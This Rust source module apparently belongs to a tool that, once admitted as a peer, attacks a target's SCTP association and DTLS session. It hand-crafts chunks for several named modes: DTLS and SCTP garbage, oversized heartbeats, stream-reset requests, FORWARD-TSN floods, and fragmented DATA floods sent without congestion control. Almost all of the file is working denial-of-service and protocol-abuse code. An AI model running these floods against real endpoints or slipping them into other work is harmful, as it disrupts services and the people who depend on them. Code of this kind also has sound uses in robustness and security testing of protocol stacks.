//! What a peer that was let in does to the association and to the session below it. SCTP by hand (RFC
//! 9260), so that nothing keeps it from breaking the rules.

use rand::RngCore;

use crate::session::Session;
use crate::{Outcome, Result, Stop, Target};

pub(crate) mod kind {
    pub(crate) const DATA: u8 = 0;
    pub(crate) const INIT: u8 = 1;
    pub(crate) const INIT_ACK: u8 = 2;
    pub(crate) const SACK: u8 = 3;
    pub(crate) const HEARTBEAT: u8 = 4;
    pub(crate) const ABORT: u8 = 6;
    pub(crate) const COOKIE_ECHO: u8 = 10;
    pub(crate) const COOKIE_ACK: u8 = 11;
    pub(crate) const RECONFIG: u8 = 130;
    pub(crate) const FORWARD_TSN: u8 = 192;
}

pub(crate) const OWN_TAG: u32 = 0x0102_0304;
pub(crate) const FIRST_TSN: u32 = 1000;

/// Chunks of one packet, of about 20 bytes each.
const BUNDLE: u32 = 48;

/// Chunks that are sent ahead of their acknowledgement.
const AHEAD: u32 = 16 * BUNDLE;

/// Looks for an acknowledgement without news, after which all is sent again.
const LOOKS: u32 = 50;

/// Fragments of one message.
const FRAGMENTS: u32 = 1000;

/// A chunk, its padding included.
pub(crate) fn chunk(kind: u8, flags: u8, value: &[u8]) -> Vec<u8> {
    let mut chunk = vec![kind, flags];
    chunk.extend((4 + value.len() as u16).to_be_bytes());
    chunk.extend(value);
    chunk.resize(chunk.len().next_multiple_of(4), 0);
    chunk
}

/// An INIT that offers RE-CONFIG and FORWARD TSN (RFC 5061 §4.2.7).
pub(crate) fn init(tag: u32, tsn: u32) -> Vec<u8> {
    let fields = [tag, 1 << 20, u32::MAX, tsn].map(u32::to_be_bytes).concat();
    let extensions = [0x80, 0x08, 0, 6, kind::RECONFIG, kind::FORWARD_TSN];
    // Forward-TSN-Supported (RFC 3758 §3.1).
    let forward = [0, 0, 0xc0, 0, 0, 4];
    chunk(kind::INIT, 0, &[&fields[..], &extensions, &forward].concat())
}

/// A packet with the right checksum.
pub(crate) fn packet(tag: u32, chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut packet = vec![0x13, 0x88, 0x13, 0x88];
    packet.extend(tag.to_be_bytes());
    packet.extend([0; 4]);
    packet.extend(chunks.concat());
    let sum = crc32c::crc32c(&packet);
    packet[8..12].copy_from_slice(&sum.to_le_bytes());
    packet
}

pub(crate) fn u32_at(bytes: &[u8], at: usize) -> u32 {
    bytes.get(at..).and_then(<[u8]>::first_chunk).map_or(0, |it| u32::from_be_bytes(*it))
}

/// Counts packets.
pub(crate) fn attack(
    kind: &str,
    session: &mut Session,
    target: &Target,
    stop: &Stop,
) -> Result<Outcome> {
    let stream = target.stream_id;
    match kind {
        "dtls-garbage" => each(session, stop, |session, n| {
            // Application data of epoch 1, each with a number of its own (RFC 6347 §4.1).
            const LEN: u16 = 120;
            let number = &n.wrapping_add(1 << 20).to_be_bytes()[2..];
            let header = [&[23, 254, 253, 0, 1][..], number, &LEN.to_be_bytes()].concat();
            session.send_datagram(&[&header[..], &[n as u8; LEN as usize]].concat())
        }),
        "sctp-garbage" => {
            let mut garbage = vec![0; 600];
            rand::rng().fill_bytes(&mut garbage);
            each(session, stop, move |session, n| {
                garbage[..8].copy_from_slice(&n.to_be_bytes());
                session.send_content(&garbage)
            })
        }
        "sctp-heartbeats" => {
            let info = [&[0, 1, 4, 0][..], &[7; 1020]].concat();
            let heartbeat = [chunk(kind::HEARTBEAT, 0, &info)];
            each(session, stop, |session, _| session.send(&heartbeat))
        }
        "sctp-resets" => each(session, stop, |session, n| {
            let fields = [FIRST_TSN + n as u32, 0, FIRST_TSN - 1].map(u32::to_be_bytes).concat();
            let stream = (n as u16).to_be_bytes();
            let request = [&[0, 13, 0, 18][..], &fields, &stream].concat();
            session.send(&[chunk(kind::RECONFIG, 0, &request)])
        }),
        "sctp-forward" => each(session, stop, |session, n| {
            let mut value = (FIRST_TSN + n as u32).to_be_bytes().to_vec();
            for skip in 0..200u16 {
                value.extend((skip ^ n as u16).to_be_bytes());
                value.extend((n as u16).to_be_bytes());
            }
            session.send(&[chunk(kind::FORWARD_TSN, 0, &value)])
        }),
        "sctp-messages" => flow(session, stop, |n| (0b11, n as u16, stream)),
        "sctp-fragments" => flow(session, stop, |n| {
            let flags = match n % FRAGMENTS {
                0 => 0b10,
                last if last == FRAGMENTS - 1 => 0b01,
                _ => 0,
            };
            (flags, (n / FRAGMENTS) as u16, stream)
        }),
        other => Err(format!("there is no kind {other:?}").into()),
    }
}

/// One packet after the other, whatever the answers are.
fn each(
    session: &mut Session,
    stop: &Stop,
    mut send: impl FnMut(&mut Session, u64) -> Result<()>,
) -> Result<Outcome> {
    let mut outcome = Outcome::default();
    while !stop.is_set() && !outcome.ended {
        send(session, outcome.sent)?;
        outcome.sent += 1;
        if outcome.sent.is_multiple_of(16) {
            outcome.ended = acknowledged(session)?.is_none();
        }
    }
    Ok(outcome)
}

/// DATA of one byte a chunk, in bundles: as fast as it is acknowledged, and again as soon as it is
/// not. No congestion control. `describe` gives the flags, the sequence number and the stream of the
/// n-th chunk.
fn flow(
    session: &mut Session,
    stop: &Stop,
    describe: impl Fn(u32) -> (u8, u16, u16),
) -> Result<Outcome> {
    let mut outcome = Outcome::default();
    let (mut acked, mut next, mut looks) = (0u32, 0u32, 0);
    while !stop.is_set() {
        if next.wrapping_sub(acked) < AHEAD {
            let chunks: Vec<_> = (next..next + BUNDLE)
                .map(|n| {
                    let (flags, sequence, stream) = describe(n);
                    let mut value = (FIRST_TSN + n).to_be_bytes().to_vec();
                    value.extend(stream.to_be_bytes());
                    value.extend(sequence.to_be_bytes());
                    value.extend([0, 0, 0, 53, n as u8]);
                    chunk(kind::DATA, flags, &value)
                })
                .collect();
            session.send(&chunks)?;
            outcome.sent += 1;
            next += BUNDLE;
        }
        match acknowledged(session)? {
            None => {
                outcome.ended = true;
                break;
            }
            Some(Some(tsn)) if tsn.wrapping_sub(FIRST_TSN) + 1 > acked => {
                acked = tsn.wrapping_sub(FIRST_TSN) + 1;
                next = next.max(acked);
                looks = 0;
            }
            Some(_) if next.wrapping_sub(acked) >= AHEAD => looks += 1,
            Some(_) => {}
        }
        if looks > LOOKS {
            (next, looks) = (acked, 0);
        }
    }
    Ok(outcome)
}

/// The last TSN that the target has acknowledged since the last look. `None`: it has ended this.
fn acknowledged(session: &mut Session) -> Result<Option<Option<u32>>> {
    let packets = session.receive()?;
    let aborted = packets.iter().any(|packet| packet.get(12) == Some(&kind::ABORT));
    if aborted || session.is_over() {
        return Ok(None);
    }
    let sacks = packets.iter().filter(|packet| packet.get(12) == Some(&kind::SACK));
    Ok(Some(sacks.last().map(|packet| u32_at(packet, 16))))
}
